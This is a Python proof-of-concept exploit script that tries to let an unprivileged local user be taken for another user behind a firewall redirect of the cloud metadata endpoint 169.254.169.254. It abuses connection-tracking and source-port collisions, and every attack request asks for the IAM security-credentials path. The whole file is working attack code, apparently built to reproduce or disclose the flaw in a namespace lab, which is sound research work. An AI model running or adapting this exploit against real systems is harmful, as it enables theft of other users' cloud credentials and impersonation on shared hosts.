"""Tries to be taken for another user behind a redirection of 169.254.169.254:80, as an unprivileged user.

Two sockets of one address and port may go to different places. If a firewall redirects one of them to where the other goes, the
kernel gives it another source port, by chance that of somebody else's socket. It is enough that connection tracking remembers the other
one, even if it was refused. Usage: attack.py PORT TRIES, in a network namespace in which connections are redirected to PORT, as root,
which only becomes the two users. Prints what became of it as JSON.
"""

import errno
import json
import os
import random
import socket
import struct
import sys
import time
import traceback

SOURCE = "192.0.2.1"
CAPTURED = ("169.254.169.254", 80)
DIRECT = ("127.0.0.1", int(sys.argv[1]))
TRIES = int(sys.argv[2])
VICTIM, ATTACKER = 61001, 61002
DIRECTS, VICTIMS = 5000, 200
IP_BIND_ADDRESS_NO_PORT, IP_LOCAL_PORT_RANGE = 24, 51
REQUEST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"


def connect(place, port=0):
    """A connection from SOURCE, from a certain port if it is given."""
    client = socket.socket()
    client.settimeout(10)
    client.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    if port:
        client.setsockopt(socket.IPPROTO_IP, IP_LOCAL_PORT_RANGE, struct.pack("I", port << 16 | port))
    client.bind((SOURCE, 0))
    client.connect(place)
    return client


def ask(client):
    """The status of one answer."""
    client.sendall(REQUEST)
    answer = b""
    while b"\r\n\r\n" not in answer:
        part = client.recv(4096)
        if not part:
            return "closed"
        answer += part
    return answer.split(b" ", 2)[1].decode()


def reset(client):
    """Closes without TIME_WAIT."""
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    client.close()


def count(statuses):
    return {status: statuses.count(status) for status in sorted(set(statuses))}


def become(uid, work):
    """Starts `work` as another user; how it is told to go on, and what it says."""
    (orders, order), (said, say) = os.pipe(), os.pipe()
    if os.fork() == 0:
        os.close(order), os.close(said)
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
        try:
            work(os.fdopen(orders), os.fdopen(say, "w"))
        except BaseException:
            traceback.print_exc()
        finally:
            os._exit(0)
    os.close(orders), os.close(say)
    return os.fdopen(order, "w"), os.fdopen(said)


def tell(pipe, what):
    print(json.dumps(what), file=pipe, flush=True)


def victim(orders, say):
    clients = [connect(CAPTURED) for _ in range(VICTIMS)]
    first = count([ask(client) for client in clients])
    tell(say, {"ports": [client.getsockname()[1] for client in clients], "statuses": first})
    orders.readline()
    again = [connect(CAPTURED) for _ in range(VICTIMS)]
    tell(say, count([ask(client) for client in clients + again]))


def attacker(orders, say):
    held = {}
    refused = []
    ports = iter(random.sample(range(32768, 61000), 2 * DIRECTS))
    while len(held) + len(refused) < DIRECTS:
        port = next(ports)
        try:
            held[port] = connect(DIRECT, port)
        except ConnectionRefusedError:
            refused.append(port)
        except OSError as error:
            # A listener of the daemon has this port.
            if error.errno != errno.EADDRNOTAVAIL:
                raise
    tell(say, {"held": len(held), "refused": len(refused)})
    victims = json.loads(orders.readline())
    tried = [*held, *refused]
    common = [port for port in victims if port in tried]
    for port in common:
        if port in held:
            reset(held.pop(port))
    time.sleep(2.5)
    ports = [port for port in tried if port not in common]
    statuses = []
    for number in range(TRIES):
        try:
            client = connect(CAPTURED, ports[number % len(ports)])
        except OSError as error:
            statuses.append(type(error).__name__)
            continue
        try:
            statuses.append(ask(client))
        except OSError as error:
            statuses.append(type(error).__name__)
        reset(client)
    tell(say, {"common": len(common), "statuses": count(statuses)})


def main():
    attacker_order, attacker_said = become(ATTACKER, attacker)
    direct = json.loads(attacker_said.readline())
    victim_order, victim_said = become(VICTIM, victim)
    before = json.loads(victim_said.readline())
    # From now on the attacker need not wait for long until the firewall forgets what was reset.
    with open("/proc/sys/net/netfilter/nf_conntrack_tcp_timeout_close", "w") as timeout:
        timeout.write("1")
    tell(attacker_order, before["ports"])
    attack = json.loads(attacker_said.readline())
    tell(victim_order, "again")
    after = json.loads(victim_said.readline())
    print(json.dumps({"direct": direct, "victim": before["statuses"], "victim_after": after, **attack}))


main()
